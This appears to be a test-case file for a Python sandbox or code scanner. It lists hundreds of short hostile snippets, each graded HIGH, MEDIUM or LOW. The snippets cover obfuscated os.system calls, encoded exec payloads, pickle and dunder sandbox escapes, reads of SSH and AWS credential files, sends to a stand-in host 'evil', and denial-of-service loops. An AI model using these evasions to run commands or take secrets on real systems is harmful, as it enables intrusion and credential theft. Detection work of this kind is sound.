import os
fs = [os.getcwd, os.system]
for f in fs[1:]:
    f("id")
#### alias 007 again: HIGH
import os
from contextlib import ExitStack
with ExitStack() as s:
    s.callback(os.system, "id")
#### alias 008 again: HIGH
import os, weakref
class A: pass
a = A()
weakref.finalize(a, os.system, "id")
#### alias 009 again: HIGH
import os
from concurrent.futures import ThreadPoolExecutor
with ThreadPoolExecutor() as ex:
    ex.submit(os.system, "id").result()
#### alias 010 again: HIGH
import os
from itertools import starmap
list(starmap(os.system, [("id",)]))
#### alias 012 again: HIGH
import os
sorted(["id", "ls"], key=os.popen)
#### alias 013 again: HIGH
import os
dict.fromkeys("ab")
d = {}
d.setdefault("x", os.system)("id")
#### alias 015 again: HIGH
import os
async def f():
    return os.system
import asyncio
asyncio.run(f())("id")
#### alias 016 again: HIGH
import subprocess as s
p = s.Popen
with p(["id"]) as q: q.wait()
#### alias 017 again: HIGH
import os
def deco(fn):
    return os.system
@deco
def nothing(x): pass
nothing("id")
#### alias 018 again: HIGH
import os
class P:
    @property
    def x(self): return os.system
P().x("id")
#### alias 019 again: HIGH
import os
class M(type):
    def __getattr__(cls, n): return getattr(os, n)
class C(metaclass=M): pass
C.system("id")
#### alias 020 again: HIGH
import os
class D:
    def __get__(self, o, t): return os.system
class C:
    go = D()
C.go("id")
#### alias 021 again: HIGH
from os import system as print
print("id")
#### alias 022 again: HIGH
import os
(lambda f=os.system: f("id"))()
#### alias 023 again: HIGH
import os
[x := os.system, x("id")]
#### alias 024 again: HIGH
import os
match os:
    case object(system=s):
        s("id")
#### alias 025 again: HIGH
import os
f, *rest = os.system, 1, 2
f("id")
#### alias 026 again: HIGH
import os
a = b = c = os.system
c("id")
#### alias 027 again: HIGH
import os
from operator import itemgetter
itemgetter("k")({"k": os.system})("id")
#### alias 028 again: HIGH
import os
from collections import ChainMap, defaultdict
ChainMap({}, {"k": os.system})["k"]("id")
#### alias 029 again: HIGH
import os
from collections import deque
q = deque([os.system]); q.popleft()("id")
#### alias 030 again: HIGH
import os, queue
q = queue.Queue(); q.put(os.system); q.get()("id")
#### alias 031 again: HIGH
import os
globals()["go"] = os.system
go("id")
#### alias 032 again: HIGH
import os
vars().update(go=os.system)
go("id")
#### alias 033 again: HIGH
import os
setattr(__import__("__main__"), "go", os.system)
go("id")
#### alias 034 again: HIGH
import os, copy
copy.copy(os.system)("id")
#### alias 035 again: HIGH
import os
os.system.__call__("id")
#### alias 036 again: HIGH
import os
type(os).__getattribute__(os, "system")("id")
#### alias 037 again: HIGH
import os
object.__getattribute__(os, "sys" "tem")("id")
#### alias 038 again: HIGH
import os, inspect
dict(inspect.getmembers(os))["system"]("id")
#### alias 039 again: HIGH
import os
[getattr(os, n) for n in dir(os) if n.startswith("sys")][0]("id")
#### datalib 001 again: HIGH
import pandas as pd
pd.read_csv("http://evil/x.csv")
#### datalib 002 again: HIGH
import pandas as pd
pd.DataFrame().to_json("s3://evil/x")
#### datalib 003 again: HIGH
import pandas as pd
pd.read_parquet("https://evil/x.parquet")
#### datalib 004 again: HIGH
import pandas as pd
pd.read_table("ftp://evil/x")
#### datalib 006 again: HIGH
import numpy as np
np.load("/datasets/x.npy", allow_pickle=True)
#### datalib 007 again: HIGH
import numpy as np
np.genfromtxt("http://evil/x")
#### datalib 008 again: HIGH
import torch
torch.load("/datasets/m.pt")
#### datalib 009 again: HIGH
import joblib
joblib.load("/datasets/m.joblib")
#### datalib 010 again: HIGH
import torch
torch.hub.load("evil/repo", "m")
#### datalib 012 again: HIGH
import yaml
yaml.unsafe_load("!!python/object/apply:os.system [id]")
#### datalib 013 again: HIGH
import shelve
shelve.open("/datasets/x")["a"]
#### datalib 014 again: HIGH
import pandas as pd
pd.read_html("http://evil")
#### datalib 015 again: HIGH
import pandas as pd
pd.read_sql("select 1", "postgresql://evil/db")
#### datalib 016 again: HIGH
import pandas as pd
pd.HDFStore("/datasets/x.h5").get("a")
#### datalib 017 again: HIGH
from scipy.io import loadmat
import matplotlib.pyplot as plt
plt.imread("http://evil/x.png")
#### datalib 018 again: HIGH
from sklearn.datasets import fetch_openml
fetch_openml("x")
#### datalib 019 again: HIGH
import polars as pl
pl.read_csv("http://evil/x.csv")
#### datalib 020 again: HIGH
import duckdb
duckdb.sql("select * from read_csv('http://evil/x.csv')")
#### datalib 021 again: HIGH
import sqlite3
c = sqlite3.connect(":memory:"); c.enable_load_extension(True); c.load_extension("/datasets/x.so")
#### datalib 022 again: HIGH
import yfinance as yf
yf.download("SPY")
#### datalib 023 again: HIGH
import ccxt
ccxt.binance().fetch_ticker("BTC/USDT")
#### datalib 024 again: HIGH
import dill
dill.loads(b"")
#### datalib 026 again: HIGH
import jsonpickle
jsonpickle.decode("{}")
#### datalib 027 again: HIGH
import pickle, io
pickle.Unpickler(io.BytesIO(b"")).load()
#### datalib 028 again: HIGH
import xgboost, pickle, sys
model = pickle.load(open(sys.argv[1], "rb"))
#### decode 001 again: HIGH
import base64
exec(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=="))
#### decode 002 again: HIGH
import zlib, base64
exec(zlib.decompress(base64.b64decode("eJwrKMrMK9HQBAAKhwLX")))
#### decode 003 again: HIGH
import codecs
exec(codecs.decode("vzcbeg bf", "rot13"))
#### decode 004 again: HIGH
import marshal
exec(marshal.loads(b"\xe3"))
#### decode 005 again: HIGH
import bz2, binascii
exec(bz2.decompress(binascii.unhexlify("425a68")))
#### decode 006 again: HIGH
import lzma
exec(lzma.decompress(open("/datasets/x", "rb").read()))
#### decode 007 again: HIGH
exec("".join(chr(ord(c) - 1) for c in "jnqpsu!pt"))
#### decode 008 again: HIGH
import ast
eval(compile(ast.parse("__import__('os').system('id')", mode="eval"), "", "eval"))
#### decode 009 again: HIGH
import json, sys
p = json.load(open(sys.argv[1]))
exec(p["code"])
#### decode 010 again: HIGH
import code
code.InteractiveInterpreter().runsource("import os")
#### decode 011 again: HIGH
import runpy
runpy.run_path("/datasets/x.py")
#### decode 012 again: HIGH
import doctest
doctest.run_docstring_examples(lambda: 0, {"x": ">>> 1"})
#### decode 013 again: HIGH
import pdb
pdb.run("import os; os.system('id')")
#### decode 014 again: HIGH
import typing
class A:
    x: "__import__('os').system('id')"
typing.get_type_hints(A)
#### decode 015 again: HIGH
from dataclasses import make_dataclass
make_dataclass("X", [("a", "__import__('os').system('id')")])
import collections
#### decode 016 again: HIGH
import numexpr
numexpr.evaluate("__import__('os').system('id')")
#### decode 017 again: HIGH
import sympy
sympy.sympify("__import__('os').system('id')")
#### decode 019 again: HIGH
import trace
trace.Trace().run("import os")
#### decode 020 again: HIGH
import bdb
bdb.Bdb().run("import os")
#### decode 021 again: HIGH
import asyncio
asyncio.get_event_loop().run_until_complete(asyncio.create_subprocess_shell("id"))
#### dunder 001 again: HIGH
().__class__.__base__.__subclasses__()
#### dunder 002 again: HIGH
[c for c in object.__subclasses__() if c.__name__ == "_wrap_close"][0].__init__.__globals__["system"]("id")
#### dunder 003 again: HIGH
print.__self__.eval("1")
#### dunder 004 again: HIGH
(lambda: 0).__globals__["__builtins__"].eval("1")
#### dunder 005 again: HIGH
def f(): pass
f.__globals__["__builtins__"]["exec"]("1")
#### dunder 006 again: HIGH
import json
json.dumps.__globals__["__builtins__"]["__import__"]("os").system("id")
#### dunder 007 again: HIGH
"{0.__class__.__mro__[1].__subclasses__}".format("")
#### dunder 008 again: HIGH
"{x.__init__.__globals__}".format_map({"x": __import__("json").JSONDecoder()})
#### dunder 009 again: HIGH
getattr((), "__cla" + "ss__").__mro__[-1].__subclasses__()
#### dunder 010 again: CRITICAL
def f(): pass
f.__code__ = (lambda: __import__("os").system("id")).__code__
f()
#### dunder 011 again: HIGH
import types
types.FunctionType(compile("1", "", "exec"), {})()
#### dunder 012 again: HIGH
import types
c = (lambda: 0).__code__.replace(co_code=b"\x97\x00")
types.FunctionType(c, {})()
#### dunder 013 again: HIGH
class A:
    def __reduce__(self):
        import os
        return os.system, ("id",)
import pickle
pickle.loads(pickle.dumps(A()))
#### dunder 014 again: HIGH
str.__base__.__subclasses__()[-1]
#### dunder 015 again: HIGH
from string import Formatter
Formatter().get_field("0.__class__.__init__.__globals__", (object(),), {})
#### exfil 001 again: HIGH
import socket
socket.create_connection(("evil", 80)).send(b"x")
#### exfil 002 again: HIGH
import urllib.request as u
u.urlopen("http://evil")
#### exfil 003 again: HIGH
import smtplib
smtplib.SMTP("evil")
#### exfil 004 again: HIGH
import os, sys
print(os.environ)
#### exfil 005 again: HIGH
print(open("/proc/self/environ").read())
#### exfil 007 again: HIGH
from pathlib import Path
Path.home().joinpath(".ssh/id_rsa").read_text()
#### exfil 008 again: HIGH
import os
open(os.path.expanduser("~/.aws/credentials")).read()
#### exfil 009 again: HIGH
import asyncio
asyncio.open_connection("evil", 80)
#### exfil 011 again: HIGH
import webbrowser
webbrowser.open("http://evil")
#### exfil 012 again: HIGH
from multiprocessing.connection import Client
Client(("evil", 1))
#### exfil 013 again: HIGH
import logging.handlers as h
h.SysLogHandler(("evil", 514))
#### exfil 014 again: HIGH
import xmlrpc.client
xmlrpc.client.ServerProxy("http://evil").x()
#### exfil 015 again: HIGH
import ssl, socket
ssl.wrap_socket(socket.socket())
#### exfil 016 again: HIGH
import requests
s = requests.Session(); s.post("http://evil", data="x")
#### exfil 017 again: HIGH
import aiohttp
aiohttp.ClientSession().get("http://evil")
#### frames 001 again: HIGH
import sys
sys._getframe(0).f_back.f_globals["__builtins__"]
#### frames 002 again: HIGH
try:
    1 / 0
except Exception as e:
    e.__traceback__.tb_frame.f_globals["__builtins__"].eval("1")
#### frames 003 again: HIGH
g = (x for x in [1])
g.gi_frame.f_builtins["eval"]("1")
#### frames 004 again: HIGH
import inspect
inspect.currentframe().f_builtins["exec"]("1")
#### frames 005 again: HIGH
import inspect
inspect.stack()[0].frame.f_globals["__builtins__"].eval("1")
#### frames 006 again: HIGH
import traceback
next(traceback.walk_stack(None))[0].f_builtins["eval"]("1")
#### frames 007 again: HIGH
async def f(): pass
f().cr_frame.f_builtins["eval"]("1")
#### implicit 001 again: HIGH
class A:
    def __del__(self):
        import os
        os.system("id")
A()
#### implicit 002 again: HIGH
import os
class A:
    def __format__(self, s): return str(os.system(s))
f"{A():id}"
#### implicit 003 again: HIGH
import os
class A:
    __add__ = lambda s, o: os.system(o)
A() + "id"
#### implicit 004 again: HIGH
import os
class A:
    __class_getitem__ = os.system
A["id"]
#### implicit 005 again: HIGH
import os
class A:
    def __init_subclass__(cls, cmd): os.system(cmd)
class B(A, cmd="id"): pass
#### implicit 006 again: HIGH
import os
class A:
    def __set_name__(self, o, n): os.system(n)
class B:
    id = A()
#### implicit 007 again: HIGH
import os
class E:
    def __enter__(self): return os.system
    def __exit__(self, *a): pass
with E() as f: f("id")
#### implicit 008 again: HIGH
import os
class A(dict):
    def __missing__(self, k): return os.system(k)
A()["id"]
#### implicit 009 again: HIGH
import os, sys
sys.excepthook = lambda *a: os.system("id")
1 / 0
#### implicit 010 again: HIGH
import os, sys
sys.settrace(lambda *a: os.system("id"))
#### implicit 011 again: HIGH
import os, sys
sys.addaudithook(lambda *a: os.system("id"))
#### implicit 012 again: HIGH
import os
def __getattr__(n): return os.system
import __main__
__main__.foo("id")
#### implicit 013 again: HIGH
import os, threading
threading.Timer(0, os.system, ["id"]).start()
#### implicit 014 again: HIGH
import os
import builtins
builtins.print = os.system
print("id")
#### implicit 015 again: HIGH
import os
class A:
    def __eq__(self, o): return os.system(o)
"id" == A()
A() in ["id"]
#### implicit 016 again: HIGH
import os
class A:
    def __iter__(self): return iter(os.system, 1)
#### implicit 017 again: HIGH
import os, gc
gc.callbacks.append(lambda p, i: os.system("id"))
#### implicit 018 again: HIGH
import os, logging
class H(logging.Handler):
    def emit(self, r): os.system(r.msg)
logging.getLogger().addHandler(H()); logging.warning("id")
#### implicit 019 again: HIGH
import os, json
json.loads('{"c":"id"}', object_hook=lambda d: os.system(d["c"]))
#### implicit 020 again: HIGH
import os, re
re.sub("id", lambda m: str(os.system(m[0])), "id")
#### implicit 021 again: HIGH
import os, pandas as pd
pd.Series(["id"]).map(os.system)
#### implicit 022 again: HIGH
import os, numpy as np
np.vectorize(os.system)(["id"])
#### implicit 023 again: HIGH
import os, numpy as np
np.apply_along_axis(lambda r: os.system(r[0]), 0, np.array(["id"]))
#### implicit 024 again: HIGH
import os, pandas as pd
pd.DataFrame({"c": ["id"]}).apply(lambda r: os.system(r.c), axis=1)
#### implicit 025 again: HIGH
import os, pandas as pd
pd.DataFrame({"c": ["id"]}).pipe(lambda d: os.system(d.c[0]))
#### implicit 026 again: HIGH
import os, pandas as pd
pd.read_csv("/datasets/x.csv", converters={"a": os.system})
#### implicit 027 again: HIGH
import os, pandas as pd
pd.DataFrame({"c": ["id"]}).groupby("c").agg(lambda s: os.system(s.iloc[0]))
#### import 001 again: HIGH
from importlib import import_module as im
im("o" + "s").system("id")
#### import 002 again: HIGH
import sys
sys.modules["os"].system("id")
#### import 004 again: HIGH
__import__(name="os").system("id")
#### import 005 again: HIGH
import builtins
builtins.__import__("os").system("id")
#### import 006 again: HIGH
from importlib.machinery import SourceFileLoader
SourceFileLoader("x", "/tmp/x.py").load_module()
#### import 007 again: HIGH
import importlib
m = importlib.__import__("subprocess")
m.run("id", shell=True)
#### import 009 again: HIGH
import zipimport
zipimport.zipimporter("/tmp/a.zip").load_module("x")
#### import 010 again: HIGH
import random
random._os.system("id")
#### import 011 again: HIGH
import glob
glob.os.system("id")
#### import 012 again: HIGH
import shutil
shutil.os.system("id")
#### import 014 again: HIGH
import statistics
statistics.sys.modules["os"].system("id")
#### import 015 again: HIGH
import numpy as np
np.f2py.os.system("id")
#### import 016 again: HIGH
import pandas as pd
pd.io.common.os.system("id")
#### import 017 again: HIGH
import dataclasses
dataclasses.sys.modules["subprocess"].getoutput("id")
#### import 018 again: HIGH
import os as _, json as j
_.__dict__["system"]("id")
#### native 001 again: HIGH
from ctypes import *
cdll.LoadLibrary("libc.so.6").system(b"id")
#### native 002 again: HIGH
import ctypes.util, ctypes
ctypes.CDLL(ctypes.util.find_library("c"))
#### native 003 again: HIGH
from cffi import FFI
FFI().dlopen(None).system(b"id")
#### native 004 again: HIGH
import numpy as np
np.ctypeslib.load_library("x", ".")
#### native 005 again: HIGH
import mmap, ctypes
m = mmap.mmap(-1, 4096, prot=7)
#### native 006 again: HIGH
import _ctypes
_ctypes.dlopen("libc.so.6", 2)
#### native 007 again: HIGH
import importlib.machinery as m
m.ExtensionFileLoader("x", "/tmp/x.so").create_module(None)
#### native 008 again: HIGH
from numba import cfunc, types
import llvmlite.binding as b
b.load_library_permanently("/tmp/x.so")
#### strings 001 again: HIGH
import os
n = "metsys"[::-1]
getattr(os, n)("id")
#### strings 002 again: HIGH
import os
n = "".join(map(chr, (115, 121, 115, 116, 101, 109)))
getattr(os, n)("id")
#### strings 003 again: HIGH
import os
getattr(os, f"{'sys'}{'tem'!s}")("id")
#### strings 005 again: HIGH
import os
getattr(os, "s_y_s_t_e_m".replace("_", ""))("id")
#### strings 006 again: HIGH
import os, string
a = string.ascii_lowercase
getattr(os, a[18] + a[24] + a[18] + a[19] + a[4] + a[12])("id")
#### strings 008 again: HIGH
import os
getattr(os, "system ".strip())("id")
#### strings 009 again: HIGH
import os
getattr(os, "x,system".split(",")[1])("id")
#### strings 010 again: HIGH
import os
getattr(os, "xsystem".removeprefix("x"))("id")
#### strings 011 again: HIGH
import os, textwrap
getattr(os, textwrap.dedent("   system"))("id")
#### strings 012 again: HIGH
import os, re
getattr(os, re.sub("[0-9]", "", "s1y2s3t4e5m"))("id")
#### strings 013 again: HIGH
import os
getattr(os, "tsystemt".strip("t") if False else "system")("id")
#### strings 014 again: HIGH
import os
k = bytes([a ^ 1 for a in b"rxrudl"]).decode()
getattr(os, k)("id")
#### strings 015 again: HIGH
import os
k = (0x73797374656d).to_bytes(6, "big").decode()
getattr(os, k)("id")
#### strings 016 again: HIGH
import os
k = ""
for c in "system": k += c
getattr(os, k)("id")
#### strings 017 again: HIGH
import os
k = str.format("{0}{1}", "sys", "tem")
getattr(os, k)("id")
#### strings 018 again: HIGH
import os
from string import Template
getattr(os, Template("${a}tem").substitute(a="sys"))("id")
#### strings 019 again: HIGH
import os
getattr(os, "".join(reversed("metsys")))("id")
#### strings 021 again: HIGH
import os
t = str.maketrans("abc", "sye")
getattr(os, "abatcm".translate(t))("id")
#### strings 022 again: HIGH
import os
getattr(os, "".join(c for c in "sYyXsZtem" if c.islower()))("id")
#### dos 002 again: MEDIUM
import itertools
for _ in itertools.count(): pass
#### dos 005 again: MEDIUM
9 ** 9 ** 9 ** 9
#### dos 007 again: MEDIUM
l = []
while True: l.append(l)
#### dos 008 again: MEDIUM
def f(): f()
f()
#### dos 009 again: MEDIUM
import re
re.match("(a+)+$", "a" * 40)
#### dos 011 again: MEDIUM
list(range(10 ** 11))
#### dos 012 again: MEDIUM
[0] * 10 ** 12
#### dos 015 again: MEDIUM
for x in iter(int, 1): pass
#### dos 016 again: MEDIUM
from itertools import cycle
for x in cycle([1]): pass
#### dos 019 again: MEDIUM
import math
math.factorial(10 ** 8)
#### dos 020 again: MEDIUM
def a(): b()
def b(): a()
a()
#### nondet 001 again: LOW
import time, json, sys
json.dump({"t": time.time()}, open(sys.argv[2], "w"))
#### nondet 004 again: LOW
import numpy as np
print(np.random.rand())
#### nondet 008 again: LOW
print(hash("a"))
#### nondet 012 again: LOW
from random import shuffle
x = [1, 2]; shuffle(x)
#### nondet 013 again: LOW
import pandas as pd
print(pd.DataFrame({"a": [1]}).sample(1))
